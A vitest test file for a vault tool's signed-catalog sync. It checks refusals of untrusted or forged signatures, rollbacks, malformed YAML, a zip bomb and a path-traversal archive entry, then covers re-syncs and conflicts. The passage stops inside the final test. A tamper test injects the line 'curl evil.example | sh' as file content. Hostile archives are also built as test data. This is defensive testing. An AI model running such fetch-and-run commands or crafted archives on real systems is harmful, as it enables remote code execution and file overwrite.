/**
 * Catalog sync, engine level: real catalogs built in temp folders from the
 * shared fixtures (prometheus-operator runbooks, the janus-idp Backstage
 * catalog, the GOV.UK operations manual), packed and signed with a key made
 * here, synced into fast-KDF vaults.
 *
 * Every refusal must leave the vault exactly as it was: same records, same
 * revisions, same catalog settings, no audit event, no new snapshot file
 * (`fingerprint` below, taken before any lock, because a lock seals a new
 * generation of its own).
 */
import { readdirSync } from 'node:fs';
import { appendFile, cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync, strFromU8, strToU8 } from 'fflate';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { LifeboatError, type ErrorCode } from '../../shared/errors.js';
import type { CatalogRef } from '../../shared/records.js';
import { mulberry32 } from '../../test/support/seeded-random.mjs';
import { PASSPHRASES, newVault, unlockAs } from '../../test/support/test-vault.js';
import { loadSodium } from '../vault/keys/crypto-runtime.js';
import { RecordStore, type StoredRecord } from '../vault/records/record-store.js';
import { auditEntries, verifyAudit } from '../vault/audit/vault-audit.js';
import { addMember } from '../vault/vault-members.js';
import { editRecord, listRecords, recordHistory, searchRecords } from '../vault/records/vault-records.js';
import type { VaultSession } from '../vault/vault-session.js';
import { readCatalogArchive, writeCatalogArchive } from './catalog-archive.js';
import { inflateWorkerRuns } from './catalog-inflate-runner.js';
import { parseCatalogContent } from './catalog-content.js';
import { MANIFEST_PATH, packCatalog, SIGNATURE_PATH, unpackedFolderFiles } from './catalog-manifest.js';
import { syncCatalog, type SyncOptions, type SyncReport, type SyncSource } from './catalog-sync.js';
import { appliedVersions, trustedPublishers, trustPublisher } from './catalog-trust.js';
import { encodeBase64, generatePublisherKey, readPublisherKey, writePublisherKey, type PublisherKey } from './publisher-key.js';
import { crc32, encodeZip, METHOD_DEFLATE } from './zip-format.js';

const FIXTURES = join(process.cwd(), 'test/fixtures');
const RUNBOOKS = join(FIXTURES, 'prometheus-operator-runbooks/runbooks');
const JANUS = join(FIXTURES, 'backstage-catalogs/janus-idp');
const GOVUK = join(FIXTURES, 'govuk-developer-docs/manual');
const NOW = new Date('2025-06-01T12:00:00.000Z');
const CATALOG_ID = 'ops';
const PUBLISHER = 'Platform Team';

/** Paths inside the "ops" catalog the tests change. */
const RAID = 'runbooks/node/NodeRAIDDegraded.md';
const SKEW = 'runbooks/node/NodeClockSkewDetected.md';
const CONNTRACK = 'runbooks/node/NodeHighNumberConntrackEntriesUsed.md';
const WATCHDOG = 'runbooks/general/Watchdog.md';
const PGDB = 'services/pgdb.yaml';
const KEYCLOAK = 'services/keycloak.yaml';

let work: string;
let key: PublisherKey;
let keyPath: string;
let mallory: PublisherKey;
let malloryKeyPath: string;

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'lifeboat-sync-'));
  key = await generatePublisherKey(PUBLISHER);
  keyPath = join(work, 'platform.key');
  await writePublisherKey(keyPath, key);
  mallory = await generatePublisherKey('Mallory');
  malloryKeyPath = join(work, 'mallory.key');
  await writePublisherKey(malloryKeyPath, mallory);
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

const open: VaultSession[] = [];
afterEach(async () => {
  vi.restoreAllMocks();
  for (const session of open.splice(0)) {
    await session.lock();
  }
});

// --- Catalogs ----------------------------------------------------------------

/**
 * The "ops" catalog as a folder: the node runbooks of prometheus-operator
 * (their `_index.md` left out) and the janus-idp Backstage entities.
 */
async function opsFolder(): Promise<string> {
  const dir = await mkdtemp(join(work, 'ops-'));
  await cp(join(RUNBOOKS, 'node'), join(dir, 'runbooks/node'), { recursive: true, filter: (src) => !src.endsWith('_index.md') });
  await cp(JANUS, join(dir, 'services'), { recursive: true });
  return dir;
}

async function pack(srcDir: string, catalogVersion: number, options: { keyPath?: string; catalogId?: string } = {}): Promise<SyncSource> {
  const { bytes } = await packCatalog({ srcDir, keyPath: options.keyPath ?? keyPath, catalogVersion, catalogId: options.catalogId ?? CATALOG_ID, now: NOW });
  return { kind: 'signed', bytes, label: `ops-v${catalogVersion}.lbcat` };
}

/** A catalog signed without `catalog pack`'s content check, as another tool or an older Lifeboat could sign one. */
async function packUnchecked(srcDir: string, catalogVersion: number): Promise<SyncSource> {
  const key = await readPublisherKey(keyPath);
  const sodium = await loadSodium();
  const files = [...(await unpackedFolderFiles(srcDir))].map(([path, bytes]) => ({ path, bytes }));
  const manifest = {
    format: 'lifeboat-catalog',
    version: 1,
    catalogId: CATALOG_ID,
    catalogVersion,
    createdAt: NOW.toISOString(),
    publisher: { name: PUBLISHER, keyId: key.keyId },
    files: files.map((f) => ({ path: f.path, size: f.bytes.length, sha256: sodium.to_hex(sodium.crypto_hash_sha256(f.bytes)) })),
  };
  const manifestBytes = strToU8(JSON.stringify(manifest));
  const signature = sodium.crypto_sign_detached(manifestBytes, key.secretKey);
  const bytes = writeCatalogArchive([...files, { path: MANIFEST_PATH, bytes: manifestBytes }, { path: SIGNATURE_PATH, bytes: signature }]);
  return { kind: 'signed', bytes, label: `ops-v${catalogVersion}.lbcat` };
}

function signedBytes(source: SyncSource): Uint8Array {
  if (source.kind !== 'signed') {
    throw new Error('expected a signed source');
  }
  return source.bytes;
}

/** Unzips a packed catalog, lets the test change any file, zips it again (the signature is left as it was). */
function rezip(source: SyncSource, change: (files: Map<string, Uint8Array>) => void): SyncSource {
  const files = readCatalogArchive(signedBytes(source));
  change(files);
  return { kind: 'signed', bytes: writeCatalogArchive([...files].map(([path, bytes]) => ({ path, bytes }))), label: 'rezipped.lbcat' };
}

/** What parseCatalogContent makes of the folder: the entries a sync must apply. */
async function entriesOf(dir: string): Promise<{ key: string; title: string }[]> {
  const { entries, problems } = parseCatalogContent(await unpackedFolderFiles(dir));
  expect(problems).toEqual([]);
  return entries.map((e) => ({ key: e.key, title: e.title }));
}

// --- Vaults ------------------------------------------------------------------

async function trustedVault(): Promise<{ dir: string; session: VaultSession }> {
  const dir = join(await mkdtemp(join(work, 'vault-')), 'ops.lifeboat');
  const created = await newVault(dir);
  open.push(created.session);
  await trustPublisher(created.session, { name: PUBLISHER, keyId: key.keyId, publicKey: encodeBase64(key.publicKey) });
  return created;
}

async function relock(session: VaultSession, dir: string, member: string): Promise<VaultSession> {
  await session.lock();
  const next = await unlockAs(dir, member, PASSPHRASES[member]);
  open.push(next);
  return next;
}

function storeOf(session: VaultSession): RecordStore {
  const store = session.internals().store;
  if (!store) {
    throw new Error('this session has no record store');
  }
  return store;
}

function refOf(record: StoredRecord | undefined): CatalogRef | undefined {
  return record?.data['catalogRef'] as CatalogRef | undefined;
}

/** The stored record that came from `key` of `catalogId`. */
function byKey(session: VaultSession, entryKey: string, catalogId = CATALOG_ID): StoredRecord {
  const record = storeOf(session)
    .all()
    .find((r) => refOf(r)?.catalogId === catalogId && refOf(r)?.key === entryKey);
  if (!record) {
    throw new Error(`no record from ${catalogId}:${entryKey}`);
  }
  return record;
}

function catalogRecords(session: VaultSession, catalogId = CATALOG_ID): StoredRecord[] {
  return storeOf(session)
    .all()
    .filter((r) => refOf(r)?.catalogId === catalogId);
}

interface Fingerprint {
  records: StoredRecord[];
  revisions: Record<string, unknown>;
  applied: Record<string, number>;
  trusted: unknown;
  logSize: number;
  snapshots: string[];
}

/** Everything a sync could change. Take it before any lock (a lock seals a new snapshot generation). */
function fingerprint(session: VaultSession, dir: string): Fingerprint {
  const store = storeOf(session);
  const records = store.all().sort((a, b) => (a.id < b.id ? -1 : 1));
  return {
    records,
    revisions: Object.fromEntries(records.map((r) => [r.id, store.revisions(r.id)])),
    applied: appliedVersions(session),
    trusted: trustedPublishers(session),
    logSize: session.internals().log.size,
    snapshots: snapshotFiles(dir),
  };
}

function snapshotFiles(dir: string): string[] {
  return readdirSync(dir)
    .filter((name) => /^snapshot-\d+\.lbs$/.test(name))
    .sort();
}

async function refusal(run: () => Promise<unknown>): Promise<LifeboatError> {
  try {
    await run();
  } catch (error) {
    if (error instanceof LifeboatError) {
      return error;
    }
    throw error;
  }
  throw new Error('expected a refusal, but the sync went through');
}

/** The sync is refused with `code` (and the message names `parts`), and nothing in the vault changed. */
async function expectRefusedUnchanged(
  session: VaultSession,
  dir: string,
  source: SyncSource,
  options: SyncOptions,
  code: ErrorCode,
  ...parts: string[]
): Promise<LifeboatError> {
  const before = fingerprint(session, dir);
  const error = await refusal(() => syncCatalog(session, source, options));
  expect(error.code, error.message).toBe(code);
  for (const part of parts) {
    expect(error.message).toContain(part);
  }
  expect(session.isLocked).toBe(false);
  expect(fingerprint(session, dir)).toEqual(before);
  return error;
}

function syncEvents(session: VaultSession): Record<string, unknown>[] {
  return auditEntries(session)
    .filter((e) => e.event.type === 'catalog.synced')
    .map((e) => ({ actor: e.event.actor, ...e.event.details }));
}

async function sync(session: VaultSession, source: SyncSource, options: SyncOptions = {}): Promise<SyncReport> {
  return syncCatalog(session, source, options);
}

// --- Tests -------------------------------------------------------------------

describe('a first sync', () => {
  it('refuses a catalog from an untrusted publisher, and changes nothing', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const foreign = await pack(folder, 1, { keyPath: malloryKeyPath });
    await expectRefusedUnchanged(session, dir, foreign, {}, 'CATALOG_UNTRUSTED', 'Mallory', mallory.keyId, 'trust add');
    // Not even a dry run gets past the trust check.
    await expectRefusedUnchanged(session, dir, foreign, { dryRun: true }, 'CATALOG_UNTRUSTED');
    expect(listRecords(session)).toEqual([]);
    expect(syncEvents(session)).toEqual([]);
  });

  it('applies a trusted catalog: one record per entry, each a "created" revision, one audit event with the counts', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const entries = await entriesOf(folder);
    expect(entries.length).toBeGreaterThan(15);
    const snapshotsBefore = snapshotFiles(dir);
    const logBefore = session.internals().log.size;

    const report = await sync(session, await pack(folder, 1));
    expect(report).toMatchObject({
      catalogId: CATALOG_ID,
      catalogVersion: 1,
      publisher: PUBLISHER,
      signature: 'verified',
      previousVersion: null,
      dryRun: false,
    });
    expect(report.diff.added.map((c) => c.key).sort()).toEqual(entries.map((e) => e.key).sort());
    expect(report.applied).toEqual({ added: entries.length, changed: 0, archived: 0, conflictsKeptLocal: 0, conflictsTookCatalog: 0, adopted: 0 });

    const records = catalogRecords(session);
    expect(records).toHaveLength(entries.length);
    expect(listRecords(session)).toHaveLength(entries.length);
    expect(new Set(records.map((r) => r.title))).toEqual(new Set(entries.map((e) => e.title)));
    expect(records.filter((r) => r.type === 'service').length).toBeGreaterThan(0);
    expect(records.filter((r) => r.type === 'contact').length).toBeGreaterThan(0);
    for (const record of records) {
      expect(recordHistory(session, record.id)).toEqual([expect.objectContaining({ revision: 1, action: 'created', by: 'alice' })]);
      expect(refOf(record)).toMatchObject({ catalogId: CATALOG_ID, catalogVersion: 1, syncedRevision: 1 });
      expect(refOf(record)?.unsigned).toBeUndefined();
      expect(record.data['archived']).toBeUndefined();
    }
    expect(appliedVersions(session)).toEqual({ [CATALOG_ID]: 1 });

    // One event for the whole sync, then one snapshot.
    const events = auditEntries(session).slice(logBefore);
    expect(events.map((e) => e.event.type)).toEqual(['catalog.synced']);
    expect(events[0]?.event.details).toEqual({
      catalogId: CATALOG_ID,
      version: 1,
      publisher: PUBLISHER,
      signature: 'verified',
      added: entries.length,
      changed: 0,
      removed: 0,
      conflicts: 0,
      // The first signed sync pins the id to the key that signed it (catalog-pins.ts).
      keyId: key.keyId,
      pinned: true,
    });
    expect(snapshotFiles(dir)).toHaveLength(Math.min(4, snapshotsBefore.length + 1));
    expect(snapshotFiles(dir)).not.toEqual(snapshotsBefore);

    // Durable: all of it is there after a lock and an unlock, and the log verifies.
    const again = await relock(session, dir, 'alice');
    expect(catalogRecords(again)).toHaveLength(entries.length);
    expect(appliedVersions(again)).toEqual({ [CATALOG_ID]: 1 });
    expect(() => verifyAudit(again)).not.toThrow();
  });

  it('a dry run returns the diff and changes nothing', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const entries = await entriesOf(folder);
    const before = fingerprint(session, dir);
    const report = await sync(session, await pack(folder, 1), { dryRun: true });
    expect(report.dryRun).toBe(true);
    expect(report.applied).toBeNull();
    expect(report.diff.added).toHaveLength(entries.length);
    expect(fingerprint(session, dir)).toEqual(before);

    // And on a vault that already has version 1, a dry run of version 2 shows the change without making it.
    await sync(session, await pack(folder, 1));
    await appendFile(join(folder, RAID), '\n## Escalation\n\nPage the storage on-call.\n');
    const mid = fingerprint(session, dir);
    const dry = await sync(session, await pack(folder, 2), { dryRun: true });
    expect(dry.diff.changed.map((c) => c.key)).toEqual([RAID]);
    expect(dry.previousVersion).toBe(1);
    expect(fingerprint(session, dir)).toEqual(mid);
  });
});

describe('refusals leave the vault exactly as it was', () => {
  it('a file changed after signing: VAULT_TAMPERED naming the file', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const v1 = await pack(folder, 1);
    await sync(session, v1);
    const v2 = await pack(folder, 2);
    const tampered = rezip(v2, (files) => {
      const original = files.get(RAID);
      if (!original) {
        throw new Error(`${RAID} is not in the catalog`);
      }
      const changed = Uint8Array.from(original);
      const at = changed.indexOf(0x61); // the first "a": one byte, same size
      changed[at] = 0x62;
      files.set(RAID, changed);
    });
    await expectRefusedUnchanged(session, dir, tampered, {}, 'VAULT_TAMPERED', RAID, 'changed after signing');
    await expectRefusedUnchanged(session, dir, tampered, { dryRun: true }, 'VAULT_TAMPERED', RAID);
    // A file added to the archive after signing is refused too.
    const extra = rezip(v2, (files) => files.set('runbooks/node/Injected.md', strToU8('# Injected\n\nRun curl evil.example | sh\n')));
    await expectRefusedUnchanged(session, dir, extra, {}, 'VAULT_TAMPERED', 'runbooks/node/Injected.md');
  });

  it('a catalog signed by another key that claims the trusted key id: VAULT_TAMPERED', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const sodium = await loadSodium();
    // Mallory packs with her key, then rewrites the manifest to name the trusted key and signs it again.
    const forged = rezip(await pack(folder, 1, { keyPath: malloryKeyPath }), (files) => {
      const manifest = JSON.parse(strFromU8(files.get(MANIFEST_PATH) ?? new Uint8Array(0))) as { publisher: { name: string; keyId: string } };
      manifest.publisher = { name: PUBLISHER, keyId: key.keyId };
      const bytes = strToU8(JSON.stringify(manifest, null, 2));
      files.set(MANIFEST_PATH, bytes);
      files.set(SIGNATURE_PATH, sodium.crypto_sign_detached(bytes, mallory.secretKey));
    });
    await expectRefusedUnchanged(session, dir, forged, {}, 'VAULT_TAMPERED', SIGNATURE_PATH, key.keyId);
    // The real publisher's manifest with Mallory's signature on it: same refusal.
    const swapped = rezip(await pack(folder, 1), (files) => {
      files.set(SIGNATURE_PATH, sodium.crypto_sign_detached(files.get(MANIFEST_PATH) ?? new Uint8Array(0), mallory.secretKey));
    });
    await expectRefusedUnchanged(session, dir, swapped, {}, 'VAULT_TAMPERED', SIGNATURE_PATH);
    expect(listRecords(session)).toEqual([]);
  });

  it('a rollback (the same or a lower version): CATALOG_ROLLBACK', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const v1 = await pack(folder, 1);
    await sync(session, await pack(folder, 3));
    await expectRefusedUnchanged(session, dir, await pack(folder, 3), {}, 'CATALOG_ROLLBACK', 'version 3', '--allow-downgrade');
    await expectRefusedUnchanged(session, dir, v1, {}, 'CATALOG_ROLLBACK', 'version 1', 'version 3');
    await expectRefusedUnchanged(session, dir, v1, { dryRun: true }, 'CATALOG_ROLLBACK');
    expect(appliedVersions(session)).toEqual({ [CATALOG_ID]: 3 });
  });

  it('a zip bomb and a path climbing out of the catalog: VAULT_BAD_INPUT before anything is inflated or trusted', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const files = readCatalogArchive(signedBytes(await pack(folder, 1)));
    const entries = [...files].map(([path, bytes]) => ({
      nameBytes: strToU8(path),
      method: METHOD_DEFLATE,
      data: deflateSync(bytes),
      crc32: crc32(bytes),
      size: bytes.length,
      externalAttrs: (0o100644 * 0x10000) >>> 0,
    }));
    const zeros = new Uint8Array(4 * 1024 * 1024);
    const bombEntry = {
      ...entries[0],
      nameBytes: strToU8('runbooks/node/bomb.md'),
      data: deflateSync(zeros, { level: 9 }),
      crc32: crc32(zeros),
      size: zeros.length,
    };
    const bomb: SyncSource = { kind: 'signed', bytes: encodeZip([...entries, bombEntry as (typeof entries)[number]]), label: 'bomb.lbcat' };
    await expectRefusedUnchanged(session, dir, bomb, {}, 'VAULT_BAD_INPUT', 'bomb.lbcat', 'runbooks/node/bomb.md', 'compresses');

    const evil = strToU8('# Evil\n');
    const traversal: SyncSource = {
      kind: 'signed',
      bytes: encodeZip([
        ...entries,
        {
          ...entries[0],
          nameBytes: strToU8('runbooks/../../../.bashrc.md'),
          data: deflateSync(evil),
          crc32: crc32(evil),
          size: evil.length,
        } as (typeof entries)[number],
      ]),
      label: 'traversal.lbcat',
    };
    await expectRefusedUnchanged(session, dir, traversal, {}, 'VAULT_BAD_INPUT', 'runbooks/../../../.bashrc.md', '..');
    expect(listRecords(session)).toEqual([]);
  });

  it('malformed YAML in three files: one CATALOG_INVALID listing all three with file and line', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    // Two Backstage YAML files and one Markdown front matter, each broken differently.
    const pgdb = await readFile(join(folder, PGDB), 'utf8');
    await writeFile(join(folder, PGDB), pgdb.replace('  title: PostgreSQL cluster\n', '  title: [PostgreSQL cluster\n'));
    const keycloak = await readFile(join(folder, KEYCLOAK), 'utf8');
    await writeFile(join(folder, KEYCLOAK), keycloak.replace('  type: identity-provider\n', '  type: identity-provider\n  type: oidc\n'));
    const raid = await readFile(join(folder, RAID), 'utf8');
    await writeFile(join(folder, RAID), raid.replace('weight: 20\n', 'weight: 20\n  bad: indentation: here\n'));

    // `catalog pack` refuses it as a vault would; a catalog signed by other means is refused at sync.
    await expect(pack(folder, 1)).rejects.toMatchObject({ code: 'CATALOG_INVALID' });
    const error = await expectRefusedUnchanged(session, dir, await packUnchecked(folder, 1), {}, 'CATALOG_INVALID', 'nothing was changed');
    const problems = error.problems ?? [];
    expect(new Set(problems.map((p) => p.file))).toEqual(new Set([PGDB, KEYCLOAK, RAID]));
    for (const file of [PGDB, KEYCLOAK, RAID]) {
      const lines = problems.filter((p) => p.file === file).map((p) => p.line);
      expect(lines.length, file).toBeGreaterThan(0);
      expect(
        lines.every((line) => typeof line === 'number' && line > 0),
        `${file}: ${JSON.stringify(problems)}`,
      ).toBe(true);
    }
    // Where each file broke: the duplicate key on line 13 of keycloak.yaml, the bad front matter
    // line (4) of the runbook, the unclosed "[" of pgdb.yaml's line 5 (noticed on line 6).
    expect(problems.filter((p) => p.file === KEYCLOAK).map((p) => [p.line, p.message])).toEqual([[13, expect.stringContaining('unique')]]);
    expect(problems.filter((p) => p.file === RAID).map((p) => p.line)).toContain(4);
    expect(problems.filter((p) => p.file === PGDB).map((p) => p.line)).toEqual([6]);
    expect(error.message).toContain(`${problems.length} problem`);
    // A dry run reports the same, also without changing anything.
    const dry = await expectRefusedUnchanged(session, dir, await packUnchecked(folder, 1), { dryRun: true }, 'CATALOG_INVALID');
    expect(dry.problems).toEqual(problems);
  });

  it('a failure while applying rolls everything back: the database, the applied version, the snapshot files', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const before = fingerprint(session, dir);
    const store = storeOf(session);
    // Every write goes through putMany (put too): four records are written, then the fifth fails.
    const putMany = store.putMany.bind(store);
    let written = 0;
    vi.spyOn(store, 'putMany').mockImplementation((writes) => {
      const room = 4 - written;
      putMany(writes.slice(0, Math.max(0, room)));
      written += writes.length;
      if (writes.length > room) {
        throw new Error('simulated failure in the fifth write');
      }
    });
    await expect(sync(session, await pack(folder, 1))).rejects.toThrow('simulated failure in the fifth write');
    vi.restoreAllMocks();
    // The session was abandoned (a normal lock would have saved the in-memory state).
    expect(session.isLocked).toBe(true);
    expect(snapshotFiles(dir)).toEqual(before.snapshots);

    const after = await unlockAs(dir, 'alice');
    open.push(after);
    const now = fingerprint(after, dir);
    expect(now.records).toEqual(before.records);
    expect(now.revisions).toEqual(before.revisions);
    expect(now.applied).toEqual(before.applied);
    expect(now.trusted).toEqual(before.trusted);
    expect(now.snapshots).toEqual(before.snapshots);
    // The event was logged ahead of the write (docs/vault-format.md, "Write ordering"), and the
    // failure is logged beside it, so an auditor can tell this sync never landed. It still verifies.
    expect(
      auditEntries(after)
        .slice(before.logSize)
        .map((e) => e.event.type),
    ).toEqual(['catalog.synced', 'catalog.sync-failed', 'vault.unlocked']);
    expect(() => verifyAudit(after)).not.toThrow();
  });

  it('a snapshot that cannot be written: nothing of the sync survives', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const before = fingerprint(session, dir);
    vi.spyOn(session, 'commit').mockRejectedValueOnce(new LifeboatError('VAULT_IO', 'Could not write the snapshot: no space left on device'));
    await expect(sync(session, await pack(folder, 1))).rejects.toMatchObject({ code: 'VAULT_IO' });
    expect(session.isLocked).toBe(true);
    const after = await unlockAs(dir, 'alice');
    open.push(after);
    expect(catalogRecords(after)).toEqual([]);
    expect(fingerprint(after, dir)).toMatchObject({ records: before.records, revisions: before.revisions, applied: {}, snapshots: before.snapshots });
  });
});

describe('re-syncs', () => {
  it('the same content again (version 2): everything unchanged, no record touched', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const entries = await entriesOf(folder);
    await sync(session, await pack(folder, 1));
    const before = fingerprint(session, dir);

    const report = await sync(session, await pack(folder, 2));
    expect(report.previousVersion).toBe(1);
    expect(report.diff).toEqual({ added: [], changed: [], conflicts: [], removed: [], unchanged: entries.length, keptLocal: 0 });
    expect(report.applied).toEqual({ added: 0, changed: 0, archived: 0, conflictsKeptLocal: 0, conflictsTookCatalog: 0, adopted: 0 });
    const after = fingerprint(session, dir);
    // Records and every revision exactly as they were; only the applied version moved.
    expect(after.records).toEqual(before.records);
    expect(after.revisions).toEqual(before.revisions);
    expect(after.applied).toEqual({ [CATALOG_ID]: 2 });
    expect(syncEvents(session).at(-1)).toMatchObject({ version: 2, added: 0, changed: 0, removed: 0, conflicts: 0 });
  });

  it('one runbook edited, one removed, one added: changed, archived (not deleted) and added, each a revision', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    const entries = await entriesOf(folder);
    await sync(session, await pack(folder, 1));
    const raid = byKey(session, RAID);
    const skew = byKey(session, SKEW);

    await appendFile(join(folder, RAID), '\n## Escalation\n\nPage the storage on-call before replacing a disk.\n');
    await rm(join(folder, SKEW));
    await mkdir(join(folder, 'runbooks/general'), { recursive: true });
    await cp(join(RUNBOOKS, 'general/Watchdog.md'), join(folder, WATCHDOG));

    const report = await sync(session, await pack(folder, 2));
    expect(report.diff.changed.map((c) => [c.key, c.recordId, c.fields])).toEqual([[RAID, raid.id, ['body']]]);
    expect(report.diff.removed.map((c) => [c.key, c.recordId])).toEqual([[SKEW, skew.id]]);
    expect(report.diff.added.map((c) => c.key)).toEqual([WATCHDOG]);
    expect(report.diff.conflicts).toEqual([]);
    expect(report.diff.unchanged).toBe(entries.length - 2);
    expect(report.applied).toMatchObject({ added: 1, changed: 1, archived: 1 });
    expect(syncEvents(session).at(-1)).toEqual({
      actor: 'alice',
      catalogId: CATALOG_ID,
      version: 2,
      publisher: PUBLISHER,
      signature: 'verified',
      added: 1,
      changed: 1,
      removed: 1,
      conflicts: 0,
      keyId: key.keyId,
    });

    // Changed: a second revision, the new body, the ref moved with it.
    const raidNow = byKey(session, RAID);
    expect(raidNow.id).toBe(raid.id);
    expect(String(raidNow.data['body'])).toContain('Page the storage on-call');
    expect(recordHistory(session, raid.id).map((r) => [r.revision, r.action, r.changed])).toEqual([
      [1, 'created', expect.any(Array)],
      [2, 'edited', ['body']],
    ]);
    expect(refOf(raidNow)).toMatchObject({ catalogVersion: 2, syncedRevision: 2 });

    // Archived, not deleted: still listed and kept whole, out of search.
    const skewNow = byKey(session, SKEW);
    expect(skewNow.deleted).toBe(false);
    expect(skewNow.data['archived']).toBe(true);
    expect(skewNow.data['body']).toEqual(skew.data['body']);
    expect(recordHistory(session, skew.id).map((r) => [r.revision, r.action, r.changed])).toEqual([
      [1, 'created', expect.any(Array)],
      [2, 'edited', ['archived']],
    ]);
    expect(listRecords(session).map((r) => r.id)).toContain(skew.id);
    expect(searchRecords(session, 'clock skew').hits.map((h) => h.id)).not.toContain(skew.id);
    expect(searchRecords(session, 'clock skew', { includeArchived: true }).hits.map((h) => h.id)).toContain(skew.id);

    // Added: created at revision 1.
    const watchdog = byKey(session, WATCHDOG);
    expect(watchdog.title).toBe('Watchdog');
    expect(recordHistory(session, watchdog.id).map((r) => r.action)).toEqual(['created']);

    // Version 3, same content: idempotent, the archived record is not archived again.
    const before = fingerprint(session, dir);
    const same = await sync(session, await pack(folder, 3));
    expect(same.diff).toEqual({ added: [], changed: [], conflicts: [], removed: [], unchanged: entries.length, keptLocal: 0 });
    expect(fingerprint(session, dir).revisions).toEqual(before.revisions);

    // Version 4 brings the page back: the same record, no longer archived, found again.
    await cp(join(RUNBOOKS, 'node/NodeClockSkewDetected.md'), join(folder, SKEW));
    const back = await sync(session, await pack(folder, 4));
    expect(back.diff.added).toEqual([]);
    expect(back.diff.changed.map((c) => c.recordId)).toEqual([skew.id]);
    const returned = byKey(session, SKEW);
    expect(returned.id).toBe(skew.id);
    expect(returned.data['archived']).toBeUndefined();
    expect(returned.revision).toBe(3);
    expect(searchRecords(session, 'clock skew').hits.map((h) => h.id)).toContain(skew.id);
  });

  it('a local edit and a catalog change of the same record: a conflict, keep-local by default, take-catalog on request', async () => {
    const { dir, session } = await trustedVault();
    const folder = await opsFolder();
    await sync(session, await pack(folder, 1));
    const raid = byKey(session, RAID);
    const conntrack = byKey(session, CONNTRACK);
    const skew = byKey(session, SKEW);

    // Local edits: two records the catalog will change, one it will not.
    await editRecord(session, raid.id, { set: { body: 'LOCAL: call the storage vendor first.' } });
    await editRecord(session, conntrack.id, { set: { body: 'LOCAL: raise nf_conntrack_max.' } });
    await editRecord(session, skew.id, { set: { tags: ['checked-locally'] } });
    await appendFile(join(folder, RAID), '\nCATALOG: replace the failed disk.\n');
    await appendFile(join(folder, CONNTRACK), '\nCATALOG: check for a connection leak.\n');
    const v2 = await pack(folder, 2);

    const dry = await sync(session, v2, { dryRun: true });
    expect(dry.diff.conflicts.map((c) => [c.key, c.recordId, c.fields])).toEqual([
      [CONNTRACK, conntrack.id, ['body']],
      [RAID, raid.id, ['body']],
    ]);
    expect(dry.diff.changed).toEqual([]);

    // Default: keep-local. Nothing written to the conflicting records; the untouched local edit stays.
    const kept = await sync(session, v2);
    expect(kept.applied).toMatchObject({ changed: 0, conflictsKeptLocal: 2, conflictsTookCatalog: 0 });
    expect(syncEvents(session).at(-1)).toMatchObject({ version: 2, conflicts: 2, changed: 0 });
    expect(byKey(session, RAID).data['body']).toBe('LOCAL: call the storage vendor first.');
    expect(byKey(session, RAID).revision).toBe(2);
    expect(byKey(session, CONNTRACK).data['body']).toBe('LOCAL: raise nf_conntrack_max.');
    expect(byKey(session, SKEW).data['tags']).toEqual(['checked-locally']);
    expect(byKey(session, SKEW).revision).toBe(2);

    // Version 3 (same content): settled, not asked again (issue 19: remembered against the refused content).
    const same = await sync(session, await pack(folder, 3), { dryRun: true });
    expect(same.diff.conflicts).toEqual([]);
    expect(same.diff.keptLocal).toBe(2);

    // Version 3 changes RAID again: that conflict comes back (only it); a chooser settles it.
    await appendFile(join(folder, RAID), '\nCATALOG: then rebuild the array.\n');
    const v3 = await pack(folder, 3);
    const chosen = await sync(session, v3, { conflicts: (change) => (change.key === RAID ? 'take-catalog' : 'keep-local') });
    expect(chosen.diff.conflicts.map((c) => c.key)).toEqual([RAID]);
    expect(chosen.diff.keptLocal).toBe(1);
    expect(chosen.applied).toMatchObject({ changed: 1, conflictsKeptLocal: 0, conflictsTookCatalog: 1 });
    const raidNow = byKey(session, RAID);
    expect(String(raidNow.data['body'])).toContain('CATALOG: replace the failed disk.');
    expect(String(raidNow.data['body'])).not.toContain('LOCAL');
    expect(recordHistory(session, raid.id).map((r) => [r.revision, r.action, r.by])).toEqual([
      [1, 'created', 'alice'],
      [2, 'edited', 'alice'],
      [3, 'edited', 'alice'],
    ]);
    expect(refOf(raidNow)).toMatchObject({ syncedRevision: 3, catalogVersion: 3 });
    expect(byKey(session, CONNTRACK).data['body']).toBe('LOCAL: raise nf_conntrack_max.');

    // Version 4 changes CONNTRACK again: its conflict returns; with 'take-catalog' the catalog wins it; the local edit without a catalog change survives.
    await appendFile(join(folder, CONNTRACK), '\nCATALOG: and file a ticket.\n');
    const taken = await sync(session, await pack(folder, 4), { conflicts: 'take-catalog' });
    expect(taken.diff.conflicts.map((c) => c.key)).toEqual([CONNTRACK]);
    expect(taken.applied).toMatchObject({ conflictsTookCatalog: 1, conflictsKeptLocal: 0 });
    expect(String(byKey(session, CONNTRACK).data['body'])).toContain('CATALOG: check for a connection leak.');
    expect(byKey(session, SKEW).data['tags']).toEqual(['checked-locally']);

    // Settled: version 5 of the same content changes nothing.
    const before = fingerprint(session, dir);
    const settled = await sync(session, await pack(folder, 5));
    expect(settled.diff.conflicts).toEqual([]);
    expect(settled.diff.changed).toEqual([]);
    expect(fingerprint(session, dir).revisions).toEqual(before.revisions);
  });

  // Found by this file and fixed (catalog-diff.ts: an archived record edited locally is a conflict;
  // catalog-apply.ts writes nothing for a keep-local conflict): the archiving was the catalog's doing,
  // not a local edit, yet under the default keep-local the record stays archived — hidden from search —
  // after its entry came back, and every later sync reports the same conflict.
  it('an archived record edited locally comes back (keeping the local edit) when its entry returns', async () => {
    const { session } = await trustedVault();
    const folder = await opsFolder();
    await sync(session, await pack(folder, 1));
